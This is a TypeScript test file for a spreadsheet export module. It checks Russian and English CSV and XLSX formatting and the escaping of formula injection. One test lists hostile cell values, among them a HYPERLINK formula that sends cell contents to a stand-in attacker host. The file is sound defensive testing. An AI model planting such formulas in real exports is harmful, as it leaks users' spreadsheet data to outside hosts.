import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { ExportTable } from './exportTable.js';
import { csvBlob, xlsxBlob } from './writeFiles.js';

const created = new Date(Date.UTC(2025, 10, 23, 14, 5, 3)); // as the grid holds it: the seller's clock in UTC fields

function table(locale: string): ExportTable {
  return {
    locale,
    columns: [
      { header: locale === 'ru' ? 'Название' : 'Name', format: { kind: 'text' } },
      { header: locale === 'ru' ? 'Цена' : 'Price', format: { kind: 'money' } },
      { header: locale === 'ru' ? 'Остаток' : 'Stock', format: { kind: 'count' } },
      { header: locale === 'ru' ? 'Комиссия, %' : 'Commission, %', format: { kind: 'percent' } },
      { header: 'Index', format: { kind: 'decimal', digits: 2 } },
      { header: 'SKU', format: { kind: 'id' } },
      { header: locale === 'ru' ? 'Создан' : 'Created', format: { kind: 'dateTime' } },
      { header: locale === 'ru' ? 'В архиве' : 'Archived', format: { kind: 'boolean' } },
    ],
    rows: [
      ['Кружка; 0,3 л', 653.41, 12345, 15, 1.05, 1234567890, created, true],
      ['Tea "Earl Grey", 100 g', 245.7, 0, 7.5, null, null, null, false],
    ],
  };
}

async function csvOf(exported: ExportTable) {
  const bytes = new Uint8Array(await (await csvBlob(exported)).arrayBuffer());
  return { bom: [...bytes.slice(0, 3)], lines: new TextDecoder().decode(bytes).split('\r\n') };
}

async function sheetOf(exported: ExportTable) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await (await xlsxBlob(exported, 'Товары')).arrayBuffer());
  return workbook.getWorksheet('Товары')!;
}

describe('csvBlob', () => {
  it('writes a text a spreadsheet would run as a formula as text, and negative numbers as numbers', async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1;"Подробнее")',
      '+7 999 000-00-00',
      '-2+3',
      '@SUM(A1:A9)',
      '\tТаб',
      '\rВозврат',
      '-5',
    ];
    const { lines } = await csvOf({
      locale: 'ru',
      columns: [
        { header: 'Отзыв', format: { kind: 'text' } },
        { header: 'Сумма', format: { kind: 'money' } },
      ],
      rows: hostile.map((text) => [text, -653.41]),
    });
    expect(lines.slice(1)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?""&A1;""Подробнее"")";-653,41`,
      `"'+7 999 000-00-00";-653,41`,
      `"'-2+3";-653,41`,
      `"'@SUM(A1:A9)";-653,41`,
      `"'\tТаб";-653,41`,
      `"'\rВозврат";-653,41`,
      // A number written as text is no formula: left as Excel reads it.
      `-5;-653,41`,
    ]);
  });

  it('writes Russian CSV: BOM, semicolons, comma decimals, да/нет, units in the header', async () => {
    const { bom, lines } = await csvOf(table('ru'));
    expect(bom).toEqual([0xef, 0xbb, 0xbf]);
    expect(lines).toEqual([
      'Название;Цена, ₽;Остаток;Комиссия, %;Index;SKU;Создан;В архиве',
      '"Кружка; 0,3 л";653,41;12345;15,00;1,05;1234567890;23.11.2025 14:05:03;да',
      '"Tea ""Earl Grey"", 100 g";245,70;0;7,50;;;;нет',
    ]);
  });

  it('writes English CSV: commas between cells, dot decimals, yes/no', async () => {
    const { bom, lines } = await csvOf(table('en'));
    expect(bom).toEqual([0xef, 0xbb, 0xbf]);
    expect(lines).toEqual([
      'Name,"Price, ₽",Stock,"Commission, %",Index,SKU,Created,Archived',
      '"Кружка; 0,3 л",653.41,12345,15.00,1.05,1234567890,2025-11-23 14:05:03,yes',
      '"Tea ""Earl Grey"", 100 g",245.70,0,7.50,,,,no',
    ]);
  });
});

describe('xlsxBlob', () => {
  it('writes real numbers and dates with number formats, да/нет as text', async () => {
    const sheet = await sheetOf(table('ru'));
    expect(sheet.getRow(1).values).toEqual([
      undefined,
      'Название',
      'Цена, ₽',
      'Остаток',
      'Комиссия, %',
      'Index',
      'SKU',
      'Создан',
      'В архиве',
    ]);
    expect(sheet.getRow(1).font?.bold).toBe(true);
    const cells = [1, 2, 3, 4, 5, 6, 7, 8].map((column) => sheet.getRow(2).getCell(column));
    expect(cells.map((cell) => cell.value)).toEqual([
      'Кружка; 0,3 л',
      653.41,
      12345,
      0.15,
      1.05,
      1234567890,
      new Date(Date.UTC(2025, 10, 23, 14, 5, 3)), // the wall-clock time the seller saw
      'да',
    ]);
    expect(cells.map((cell) => cell.numFmt)).toEqual([
      undefined,
      '#,##0.00 "₽"',
      '#,##0',
      '0.00%',
      '0.00',
      '0',
      'dd.mm.yyyy hh:mm:ss',
      undefined,
    ]);
    const missing = [1, 2, 3, 4, 5, 6, 7, 8].map((column) => sheet.getRow(3).getCell(column).value);
    expect(missing).toEqual(['Tea "Earl Grey", 100 g', 245.7, 0, 0.075, null, null, null, 'нет']);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
  });

  it('writes English dates ISO-ordered and yes/no', async () => {
    const sheet = await sheetOf(table('en'));
    expect(sheet.getRow(2).getCell(7).numFmt).toBe('yyyy-mm-dd hh:mm:ss');
    expect(sheet.getRow(2).getCell(8).value).toBe('yes');
    expect(sheet.getRow(1).getCell(2).value).toBe('Price, ₽');
  });
});
